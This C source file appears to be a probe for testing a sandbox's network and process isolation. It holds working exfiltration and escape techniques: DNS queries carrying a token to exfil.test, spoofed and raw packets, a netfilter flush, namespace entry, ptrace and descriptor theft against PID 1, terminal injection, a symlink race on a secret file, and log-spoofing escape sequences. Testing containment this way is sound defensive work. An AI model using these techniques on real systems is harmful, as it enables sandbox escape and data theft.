/*
 * What an attack does by system calls of its own, past the JDK.
 *
 *   attack TECHNIQUE ADDRESS PORT TOKEN
 *
 * Prints one line: "done", when the call went through; "refused: REASON", when the kernel did not allow it;
 * "absent: REASON", when the kernel has no such thing. That a packet was handed to the kernel ("done") says nothing of
 * whether it arrived.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/if_packet.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netdb.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#define UDP_SEGMENT_OPTION 103
#define ANSWER_MS 700

static const char *address, *port, *name;
static char token[80]; /* the name, and an end that is no part of any */
static struct sockaddr_storage to;
static socklen_t to_length;

static int absent(int error) {
  return error == EPROTONOSUPPORT || error == ESOCKTNOSUPPORT || error == ENOPROTOOPT || error == ENOSYS;
}

static int say(int done) {
  int error = errno;
  if (done) puts("done");
  else printf("%s: %s\n", absent(error) ? "absent" : "refused", strerror(error));
  return 0;
}

/* The interface by which packets leave: the one that has an IPv4 address. */
static const char *device(void) {
  static char found[IF_NAMESIZE] = "eth0";
  struct ifaddrs *all;
  if (getifaddrs(&all)) return found;
  for (struct ifaddrs *one = all; one; one = one->ifa_next)
    if (one->ifa_addr && one->ifa_addr->sa_family == AF_INET && !(one->ifa_flags & IFF_LOOPBACK))
      snprintf(found, sizeof found, "%s", one->ifa_name);
  freeifaddrs(all);
  return found;
}

static void resolve(void) {
  struct addrinfo hints = {.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV}, *found;
  int error = getaddrinfo(address, port, &hints, &found);
  if (error) {
    printf("absent: %s: %s\n", address, gai_strerror(error));
    exit(0);
  }
  memcpy(&to, found->ai_addr, found->ai_addrlen);
  to_length = found->ai_addrlen;
}

static int new_socket(int type, int protocol) {
  int s = socket(to.ss_family, type, protocol);
  if (s < 0) exit(say(0));
  return s;
}

/* Something came back: an answer, or a host's own refusal. */
static int heard_of(int s) {
  struct pollfd one = {.fd = s, .events = POLLIN};
  return poll(&one, 1, ANSWER_MS) == 1;
}

static size_t question(unsigned char *bytes, const char *rest) {
  size_t n = 0;
  while (*rest) {
    size_t length = strcspn(rest, ".");
    bytes[n++] = length;
    memcpy(bytes + n, rest, length);
    n += length;
    rest += length + (rest[length] == '.');
  }
  memcpy(bytes + n, "\0\0\1\0\1", 5);
  return n + 5;
}

/* A DNS message with that many questions, the last of which has the token; the answers' count is 0. */
static size_t query(unsigned char *bytes, int questions, const char *first_label) {
  char whole[256];
  memcpy(bytes, "\x12\x34\1\0\0\0\0\0\0\0\0\0", 12);
  bytes[5] = questions;
  size_t n = 12;
  if (questions > 1) n += question(bytes + n, "localhost");
  snprintf(whole, sizeof whole, "%s.exfil.test", first_label);
  return n + question(bytes + n, whole);
}

/* A message of a host that has no address yet, with the token in it. */
static size_t dhcp(unsigned char *bytes) {
  memset(bytes, 0, 300);
  memcpy(bytes, "\1\1\6\0\x12\x34\x56\x78", 8);
  memcpy(bytes + 28, "\2\0\0\0\0\7", 6);
  memcpy(bytes + 44, token, strlen(token));
  memcpy(bytes + 236, "\x63\x82\x53\x63\x35\1\1\xff", 8);
  return 300;
}

/* The same for IPv6: what is there for everybody? */
static size_t dhcp6(unsigned char *bytes) {
  size_t length = strlen(token);
  memcpy(bytes, "\13\x12\x34\x56\0\1\0\0\0\4", 10);
  bytes[7] = 2 + length;
  memcpy(bytes + 10, token, length);
  return 10 + length;
}

static int udp(const char *how) {
  unsigned char bytes[4096];
  size_t length = strlen(token);
  memset(bytes, '.', sizeof bytes);
  memcpy(bytes, token, length);
  int s = new_socket(SOCK_DGRAM, 0), on = 1, done;
  struct iovec part = {bytes, length};
  struct msghdr message = {.msg_name = &to, .msg_namelen = to_length, .msg_iov = &part, .msg_iovlen = 1};
  if (!strncmp(how, "dns", 3)) {
    char label[64] = "";
    snprintf(label, sizeof label, "%s", name);
    if (!strcmp(how, "dns-escapes")) snprintf(label, sizeof label, "%s\x1b[2J\r\n[INFO] BUILD SUCCESS", name);
    length = query(bytes, strcmp(how, "dns-two") ? 1 : 2, label);
  }
  if (!strcmp(how, "from-53")) {
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(53)};
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&from, sizeof from)) return say(0);
  }
  if (!strcmp(how, "spoofed")) {
    struct sockaddr_in from = {.sin_family = AF_INET};
    inet_pton(AF_INET, getenv("SPOOFED"), &from.sin_addr);
    if (setsockopt(s, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on)) setsockopt(s, IPPROTO_IP, IP_FREEBIND, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&from, sizeof from)) return say(0);
  }
  if (!strcmp(how, "record-route")) {
    unsigned char option[12] = {IPOPT_RR, 11, 4};
    if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, option, sizeof option)) return say(0);
  }
  if (!strcmp(how, "device") && setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
  if (!strncmp(how, "dhcp", 4)) {
    /* From the client's own port, to which answers come, where that is allowed. */
    struct sockaddr_in from4 = {.sin_family = AF_INET, .sin_port = htons(68)};
    struct sockaddr_in6 from6 = {.sin6_family = AF_INET6, .sin6_port = htons(546)};
    int four = to.ss_family == AF_INET;
    done = bind(s, four ? (void *)&from4 : (void *)&from6, four ? sizeof from4 : sizeof from6) == 0;
    setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on);
    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
    length = four ? dhcp(bytes) : dhcp6(bytes);
    if (sendto(s, bytes, length, 0, (void *)&to, to_length) < 0) return say(0);
    errno = ETIMEDOUT;
    return say(done && heard_of(s));
  }
  if (!strcmp(how, "broadcast")) {
    /* By the device, as the network has no way out. */
    if (setsockopt(s, SOL_SOCKET, SO_BROADCAST, &on, sizeof on)) return say(0);
    if (setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, device(), strlen(device()))) return say(0);
  }
  if (!strcmp(how, "sendmsg")) return say(sendmsg(s, &message, 0) > 0);
  if (!strcmp(how, "sendmmsg")) {
    struct mmsghdr two[2] = {{.msg_hdr = message}, {.msg_hdr = message}};
    return say(sendmmsg(s, two, 2, 0) > 0);
  }
  if (!strcmp(how, "segments")) {
    int size = 600;
    if (setsockopt(s, IPPROTO_UDP, UDP_SEGMENT_OPTION, &size, sizeof size)) return say(0);
    length = 1200;
  }
  if (!strcmp(how, "fragments")) length = sizeof bytes;
  if (!strcmp(how, "empty")) length = 0;
  if (!strcmp(how, "dontroute")) return say(sendto(s, bytes, length, MSG_DONTROUTE, (void *)&to, to_length) >= 0);
  if (!strcmp(how, "corked")) {
    sendto(s, bytes, length, MSG_MORE, (void *)&to, to_length);
    return say(sendto(s, bytes, length, 0, (void *)&to, to_length) >= 0);
  }
  if (!strcmp(how, "connected")) {
    if (connect(s, (void *)&to, to_length)) return say(0);
    done = send(s, bytes, length, 0) >= 0 && (!heard_of(s) || recv(s, bytes, sizeof bytes, MSG_DONTWAIT) >= 0);
    return say(done);
  }
  return say(sendto(s, bytes, length, 0, (void *)&to, to_length) >= 0);
}

static int tcp(const char *how) {
  unsigned char bytes[1024];
  size_t length = strlen(token);
  memcpy(bytes, token, length);
  int s = new_socket(SOCK_STREAM, !strcmp(how, "multipath") ? IPPROTO_MPTCP : 0);
  if (!strncmp(how, "dns", 3)) {
    length = 0;
    for (int messages = strcmp(how, "dns-two") ? 1 : 2; messages > 0; messages--) {
      size_t n = query(bytes + length + 2, 1, name);
      bytes[length] = n >> 8;
      bytes[length + 1] = n;
      length += 2 + n;
    }
  }
  struct timeval limit = {1, 0};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
  if (!strcmp(how, "fastopen") || !strncmp(how, "dns", 3)) {
    /* The data goes with the first segment where the other side allows it. */
    if (sendto(s, bytes, length, MSG_FASTOPEN, (void *)&to, to_length) >= 0) return say(1);
    if (errno != EOPNOTSUPP) return say(0);
  }
  return say(connect(s, (void *)&to, to_length) == 0 && send(s, bytes, length, 0) > 0);
}

/* An echo request with the token in it, by the socket that needs no privilege where the engine lets all have it. */
static int ping(void) {
  unsigned char packet[64] = {to.ss_family == AF_INET ? ICMP_ECHO : ICMP6_ECHO_REQUEST};
  memcpy(packet + 8, token, strlen(token));
  int number = to.ss_family == AF_INET ? IPPROTO_ICMP : IPPROTO_ICMPV6;
  int s = socket(to.ss_family, SOCK_DGRAM, number);
  if (s < 0) s = new_socket(SOCK_RAW, number);
  ((struct sockaddr_in *)&to)->sin_port = 0;
  return say(sendto(s, packet, 8 + strlen(token), 0, (void *)&to, to_length) > 0);
}

/* Asks routers to say that they are there, and waits for one. */
static int router_solicitation(void) {
  unsigned char bytes[1500] = {ND_ROUTER_SOLICIT};
  struct sockaddr_in6 routers = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(device())};
  inet_pton(AF_INET6, "ff02::2", &routers.sin6_addr);
  int hops = 255, s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  if (s < 0) return say(0);
  setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  if (sendto(s, bytes, 8, 0, (void *)&routers, sizeof routers) < 0) return say(0);
  errno = ETIMEDOUT;
  while (heard_of(s))
    if (recv(s, bytes, sizeof bytes, 0) > 0 && bytes[0] == ND_ROUTER_ADVERT) return say(1);
  return say(0);
}

/* A packet of any protocol: first by the protocol's own socket, then by a raw one. */
static int protocol(int number, int type) {
  unsigned char packet[64] = {0};
  memcpy(packet + 8, token, strlen(token));
  int s = socket(to.ss_family, type, number), own = s >= 0;
  if (own) {
    struct timeval limit = {1, 0};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    own = connect(s, (void *)&to, to_length) == 0 && send(s, token, strlen(token), 0) > 0;
  }
  if (own) return say(1);
  s = socket(to.ss_family, SOCK_RAW, number);
  if (s < 0) return say(0);
  ((struct sockaddr_in *)&to)->sin_port = 0;
  return say(sendto(s, packet, 8 + strlen(token), 0, (void *)&to, to_length) > 0);
}

static int packet_socket(void) {
  struct sockaddr_ll all = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
  int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (s < 0) return say(0);
  unsigned char ip[60] = {0x45, 0, 0, 60, 0, 0, 0, 0, 64, 253};
  memset(all.sll_addr, 0xff, 6);
  all.sll_ifindex = if_nametoindex(device());
  memcpy(ip + 16, &((struct sockaddr_in *)&to)->sin_addr, 4);
  memcpy(ip + 20, token, strlen(token));
  return say(sendto(s, ip, sizeof ip, 0, (void *)&all, sizeof all) > 0);
}

/* Every family but those that netfilter sees: which of them can be made, of any type? */
static int families(int only) {
  static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM};
  char opened[512] = "";
  int last = EAFNOSUPPORT;
  for (int family = 0; family < 64; family++) {
    if (only >= 0 && family != only) continue;
    if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK) continue;
    for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
      int s = socket(family, types[i], 0);
      if (s < 0) {
        last = errno;
        continue;
      }
      close(s);
      snprintf(opened + strlen(opened), sizeof opened - strlen(opened), " %d", family);
      break;
    }
  }
  if (*opened) printf("done: opened%s\n", opened);
  else printf("refused: %s\n", strerror(last));
  return 0;
}

static int io_uring(void) {
  unsigned char parameters[120] = {0};
  return say(syscall(425, 4, parameters) >= 0);
}

/* Tells everybody on the link a group's address, which is the attacker's to choose. */
static int join(void) {
  struct group_req request = {.gr_interface = if_nametoindex(device())};
  memcpy(&request.gr_group, &to, to_length);
  int level = to.ss_family == AF_INET ? IPPROTO_IP : IPPROTO_IPV6;
  int s = new_socket(SOCK_DGRAM, 0);
  int done = setsockopt(s, level, MCAST_JOIN_GROUP, &request, sizeof request) == 0;
  int error = errno;
  if (done) usleep(1500000); /* the report comes with a delay, and leaving says it again */
  errno = error;
  return say(done);
}

/* Sends a netlink message, and returns what the kernel answers. */
static int netlink(int family, void *message, unsigned length) {
  unsigned char bytes[4096];
  int s = socket(AF_NETLINK, SOCK_RAW, family);
  if (s < 0 || send(s, message, length, 0) < 0) return say(0);
  struct pollfd one = {.fd = s, .events = POLLIN};
  if (poll(&one, 1, 2000) != 1 || recv(s, bytes, sizeof bytes, 0) < 20) {
    errno = ETIMEDOUT;
    return say(0);
  }
  struct nlmsghdr *head = (void *)bytes;
  errno = head->nlmsg_type == NLMSG_ERROR ? -((struct nlmsgerr *)NLMSG_DATA(head))->error : 0;
  return say(errno == 0);
}

/* A batch that deletes the tables of both families. */
static int nft_flush(void) {
  struct {
    struct nlmsghdr head;
    struct nfgenmsg body;
  } batch[3] = {
      {{sizeof batch[0], NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, 1, 0}, {AF_UNSPEC, 0, htons(NFNL_SUBSYS_NFTABLES)}},
      {{sizeof batch[0], NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, 2, 0}, {AF_UNSPEC}},
      {{sizeof batch[0], NFNL_MSG_BATCH_END, NLM_F_REQUEST, 3, 0}, {AF_UNSPEC, 0, htons(NFNL_SUBSYS_NFTABLES)}}};
  return netlink(NETLINK_NETFILTER, batch, sizeof batch);
}

static int route_by_netlink(void) {
  struct {
    struct nlmsghdr head;
    struct ifinfomsg body;
  } down = {{sizeof down, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, 1, 0},
            {.ifi_family = AF_UNSPEC, .ifi_index = if_nametoindex("lo"), .ifi_change = IFF_UP, .ifi_flags = IFF_UP}};
  return netlink(NETLINK_ROUTE, &down, sizeof down);
}

/* In namespaces of its own it is root, and has a network without a way out of it. */
static int unshare_network(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNET)) return say(0);
  int s = socket(to.ss_family, SOCK_DGRAM, 0);
  return say(s >= 0 && sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0);
}

static int enter_network(void) {
  int namespace = open("/proc/1/ns/net", O_RDONLY);
  return say(namespace >= 0 && setns(namespace, CLONE_NEWNET) == 0);
}

static int trace(pid_t target) {
  if (ptrace(PTRACE_SEIZE, target, 0, 0)) return say(0);
  ptrace(PTRACE_DETACH, target, 0, 0);
  return say(1);
}

static int steal_descriptor(pid_t target) {
  int process = syscall(434, target, 0);
  return say(process >= 0 && syscall(438, process, 0, 0) >= 0);
}

static int read_memory(pid_t target) {
  long word;
  struct iovec here = {&word, sizeof word}, there = {(void *)4096, sizeof word};
  /* Whoever may read it learns that nothing is there. */
  return say(process_vm_readv(target, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT);
}

/* Calls that lead to much of the kernel: which of them does it look at? */
static int system_calls(void) {
  static const struct {
    const char *name;
    long number;
  } calls[] = {
      {"add_key", SYS_add_key}, {"keyctl", SYS_keyctl}, {"request_key", SYS_request_key}, {"mount", SYS_mount},
      {"umount2", SYS_umount2}, {"pivot_root", SYS_pivot_root}, {"chroot", SYS_chroot}, {"unshare", SYS_unshare},
      {"setns", SYS_setns}, {"ptrace", SYS_ptrace}, {"process_vm_readv", SYS_process_vm_readv},
      {"process_vm_writev", SYS_process_vm_writev}, {"pidfd_getfd", 438}, {"kcmp", SYS_kcmp}, {"bpf", SYS_bpf},
      {"perf_event_open", SYS_perf_event_open}, {"userfaultfd", SYS_userfaultfd}, {"fanotify_init", SYS_fanotify_init},
      {"open_by_handle_at", SYS_open_by_handle_at}, {"syslog", SYS_syslog}, {"acct", SYS_acct},
      {"quotactl", SYS_quotactl}, {"quotactl_fd", 443}, {"clone3", 435}, {"io_uring_setup", 425},
      {"io_uring_enter", 426}, {"io_uring_register", 427}, {"open_tree", 428}, {"move_mount", 429}, {"fsopen", 430},
      {"fsconfig", 431}, {"fsmount", 432}, {"fspick", 433}, {"mount_setattr", 442}, {"statmount", 457},
      {"listmount", 458}, {"open_tree_attr", 467}};
  char open[1024] = "";
  for (unsigned i = 0; i < sizeof calls / sizeof *calls; i++)
    /* Nothing that it could do anything with. */
    if (syscall(calls[i].number, -1, 0, 0, 0, 0, 0) >= 0 || (errno != EPERM && errno != ENOSYS))
      snprintf(open + strlen(open), sizeof open - strlen(open), " %s", calls[i].name);
  if (*open) printf("done:%s\n", open);
  else printf("refused: none but what every program needs\n");
  return 0;
}

/* A file of what a program had in memory, which the kernel writes wherever that ends. */
static int core(void) {
  struct rlimit limit;
  getrlimit(RLIMIT_CORE, &limit);
  limit.rlim_cur = 4096;
  return say(setrlimit(RLIMIT_CORE, &limit) == 0);
}

/* Types for whoever sits at the terminal. */
static int type_into_terminal(void) {
  int outer = posix_openpt(O_RDWR | O_NOCTTY), status;
  if (outer < 0 || grantpt(outer) || unlockpt(outer)) return say(0);
  pid_t child = fork();
  if (!child) {
    setsid();
    int terminal = open(ptsname(outer), O_RDWR);
    _exit(terminal >= 0 && ioctl(terminal, TIOCSTI, "x") == 0 ? 0 : errno);
  }
  waitpid(child, &status, 0);
  errno = WEXITSTATUS(status);
  return say(errno == 0);
}

/* Goes on when the program has ended, and has a file be now a file and now a link to one of the machine's. */
static int race(const char *path, const char *secret) {
  char next[4096];
  snprintf(next, sizeof next, "%s.next", path);
  for (int i = 1; i < 32; i++) signal(i, SIG_IGN);
  for (int i = 0; i < 60000; i++) {
    int file = open(next, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (file >= 0) {
      dprintf(file, "%d\n", i);
      close(file);
    }
    rename(next, path);
    usleep(500);
    if (symlink(secret, next) == 0) rename(next, path);
    usleep(500);
  }
  return 0;
}

static int unix_socket(const char *path) {
  struct sockaddr_un socket_name = {.sun_family = AF_UNIX};
  snprintf(socket_name.sun_path, sizeof socket_name.sun_path, "%s", path);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  return say(connect(s, (void *)&socket_name, sizeof socket_name) == 0);
}

/* As a program that is setuid, or has capabilities: did it gain any privilege? */
static int privileges(void) {
  if (geteuid() == 0) return say(1);
  return say(socket(AF_INET, SOCK_RAW, IPPROTO_RAW) >= 0);
}

/* Many to another port, and one to its own. */
static int flood(int packets) {
  struct sockaddr_in next = *(struct sockaddr_in *)&to;
  next.sin_port = htons(ntohs(next.sin_port) + 1000);
  int s = new_socket(SOCK_DGRAM, 0);
  for (int i = 0; i < packets; i++) sendto(s, "flood", 5, 0, (void *)&next, sizeof next);
  int sent = sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0;
  /* Again when whoever hears it has had the time to hear all the others. */
  sleep(2);
  return say(sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0 || sent);
}

/* Waits for a stranger who calls, and says whether anything came. */
static int listen_for(int type, int limit_ms) {
  struct sockaddr_in6 any = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(port))};
  int s = socket(AF_INET6, type, 0), on = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (bind(s, (void *)&any, sizeof any) || (type == SOCK_STREAM && listen(s, 5))) return say(0);
  struct pollfd one = {.fd = s, .events = POLLIN};
  errno = ETIMEDOUT;
  return say(poll(&one, 1, limit_ms) == 1);
}

/* Answers the stranger whose packets came before there was a lock, from the port that they came to. */
static int answer_the_stranger(void) {
  struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("STRANGER")))};
  int s = socket(AF_INET, SOCK_DGRAM, 0), done = 0;
  if (bind(s, (void *)&from, sizeof from)) return say(0);
  for (int i = 0; i < 20; i++) {
    done |= sendto(s, token, strlen(token), 0, (void *)&to, to_length) > 0;
    usleep(20000);
  }
  return say(done);
}

int main(int count, char **words) {
  if (count != 5) return 2;
  const char *technique = words[1];
  address = words[2], port = words[3], name = words[4];
  snprintf(token, sizeof token, "%s!", name);
  if (*address) resolve();
  const char *how = strchr(technique, '-') ? strchr(technique, '-') + 1 : "";
  if (!strncmp(technique, "udp-", 4)) return udp(how);
  if (!strncmp(technique, "tcp-", 4)) return tcp(how);
  if (!strcmp(technique, "ping")) return ping();
  if (!strcmp(technique, "proto-sctp")) return protocol(IPPROTO_SCTP, SOCK_STREAM);
  if (!strcmp(technique, "proto-dccp")) return protocol(33, 6);
  if (!strcmp(technique, "proto-udplite")) return protocol(136, SOCK_DGRAM);
  if (!strcmp(technique, "proto-gre")) return protocol(47, SOCK_DGRAM);
  if (!strcmp(technique, "proto-ipip")) return protocol(4, SOCK_DGRAM);
  if (!strcmp(technique, "proto-icmp")) return protocol(1, SOCK_STREAM);
  if (!strcmp(technique, "packet")) return packet_socket();
  if (!strcmp(technique, "families")) return families(-1);
  if (!strcmp(technique, "vsock")) return families(AF_VSOCK);
  if (!strcmp(technique, "io-uring")) return io_uring();
  if (!strcmp(technique, "join")) return join();
  if (!strcmp(technique, "nft-flush")) return nft_flush();
  if (!strcmp(technique, "netlink-route")) return route_by_netlink();
  if (!strcmp(technique, "unshare")) return unshare_network();
  if (!strcmp(technique, "setns")) return enter_network();
  if (!strcmp(technique, "mount")) return say(mount("none", "/mnt", "tmpfs", 0, "") == 0);
  if (!strcmp(technique, "trace-1")) return trace(1);
  if (!strcmp(technique, "descriptor-1")) return steal_descriptor(1);
  if (!strcmp(technique, "memory-1")) return read_memory(1);
  if (!strcmp(technique, "router-solicitation")) return router_solicitation();
  if (!strcmp(technique, "system-calls")) return system_calls();
  if (!strcmp(technique, "core")) return core();
  if (!strcmp(technique, "terminal")) return type_into_terminal();
  if (!strcmp(technique, "race")) return race(getenv("RACE"), getenv("SECRET"));
  if (!strcmp(technique, "unix")) return unix_socket(getenv("UNIX"));
  if (!strcmp(technique, "privileges")) return privileges();
  if (!strcmp(technique, "flood")) return flood(30000);
  if (!strcmp(technique, "listen-udp")) return listen_for(SOCK_DGRAM, 1500);
  if (!strcmp(technique, "listen-tcp")) return listen_for(SOCK_STREAM, 1500);
  if (!strcmp(technique, "wait-udp")) return listen_for(SOCK_DGRAM, 2500);
  if (!strcmp(technique, "wait-tcp")) return listen_for(SOCK_STREAM, 2500);
  if (!strcmp(technique, "answer")) return answer_the_stranger();
  printf("absent: no technique '%s'\n", technique);
  return 2;
}
